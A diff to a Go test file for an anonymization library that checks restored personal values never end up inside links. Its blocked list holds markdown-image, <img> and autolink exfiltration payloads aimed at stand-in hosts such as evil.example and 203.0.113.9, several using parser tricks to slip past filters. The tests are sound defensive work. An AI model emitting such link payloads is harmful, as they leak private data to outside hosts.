@@ -55,6 +55,18 @@ func TestRevealNeverIntoLinks(t *testing.T) {
 		"<https://evil.example/[PERSON_1]|Text>",
 		"javascript:alert([PERSON_1])",
 		"[x]: //evil.example/[PERSON_1]",
+		"![x]( http:/203.0.113.9/?q=[PERSON_1])",
+		"![x](\n https://evil.example/?q=[PERSON_1])",
+		"<http:/203.0.113.9/[PERSON_1]>",
+		"[a]: http:203.0.113.9/[PERSON_1]",
+		"https:/203.0.113.9/[PERSON_1]",
+		"https://amt.example/![x](https://evil.example/?q=[PERSON_1])",
+		"mailto:x![a](https://evil.example/?q=[PERSON_1])",
+		"![x](https://amt.example\\@evil.example/?q=[PERSON_1])",
+		"<img src=\"https://amt.example\n.evil.example/?q=[PERSON_1]\">",
+		"<img src=\"https://amt.example\t.evil.example/?q=[PERSON_1]\">",
+		"<img src=\"https://evil.example&sol;x.gut.example/?q=[PERSON_1]\">",
+		"203.0.113.9/[PERSON_1]", "evil.рф/[PERSON_1]", "evil.example:8080/[PERSON_1]",
 	}
 	for _, text := range blocked {
 		r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: text})
@@ -100,12 +112,45 @@ func TestLinksInIncomingTextAreReplacedWhole(t *testing.T) {
 // Widening a finding must not weaken the policy: a kept type never swallows a protected one.
 func TestWideningKeepsTheStricterOperator(t *testing.T) {
 	a := engine(t, newFakeVault(), func(c *anonymize.Config) {
-		c.Policy.ByType[anonymize.Placeholder] = anonymize.Keep()
 		c.Policy.ByType[anonymize.URL] = anonymize.Keep()
 	})
 	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "https://x.example/Wolke"})
 	require.NoError(t, err)
 	assert.NotContains(t, r.Text, "Wolke")
+}
+
+// A restored value may be a URL: what follows it is then part of the link.
+func TestRevealNothingBehindARestoredURL(t *testing.T) {
+	v := newFakeVault()
+	a := engine(t, v, func(c *anonymize.Config) {
+		c.Recognizers = []anonymize.Recognizer{words{name: "w", list: map[string]anonymize.EntityType{"https://evil.example/p": anonymize.URL, "Wolke": anonymize.Person}}}
+	})
+	_, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "https://evil.example/p Wolke"})
+	require.NoError(t, err)
+	r, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: "[URL_1]?q=[PERSON_1] [PERSON_1]"})
+	require.NoError(t, err)
+	assert.Equal(t, "https://evil.example/p?q=[PERSON_1] Wolke", r.Text)
+	for _, text := range []string{"https://evil.example/pWolke", "https://evil.example/p,Wolke Wolke", "(https://evil.example/p)Wolke"} {
+		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: text})
+		require.NoError(t, err)
+		assert.NotContains(t, r.Text, "Wolke")
+		back, err := a.Reveal(ctx, anonymize.Message{Scope: "s", Text: r.Text})
+		require.NoError(t, err)
+		assert.Equal(t, text, back.Text)
+	}
+}
+
+// A type that the policy keeps must not carry a typed pseudonym to the bot.
+func TestKeptFindingHidesNoPlaceholder(t *testing.T) {
+	a := revealer(t, nil)
+	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "s", Text: "[PERSON_1]", Entities: []anonymize.Entity{{Span: anonymize.Span{End: 10}, Type: anonymize.Location}}})
+	require.NoError(t, err)
+	assert.Equal(t, "[PLACEHOLDER_1]", r.Text)
+	v := newFakeVault()
+	p := anonymize.DefaultPolicy(v)
+	p.ByType[anonymize.Placeholder] = anonymize.Keep()
+	_, err = anonymize.New(anonymize.Config{Recognizers: []anonymize.Recognizer{names}, Policy: p, Revealer: v})
+	assert.ErrorContains(t, err, "PLACEHOLDER")
 }
 
 func TestEscape(t *testing.T) {
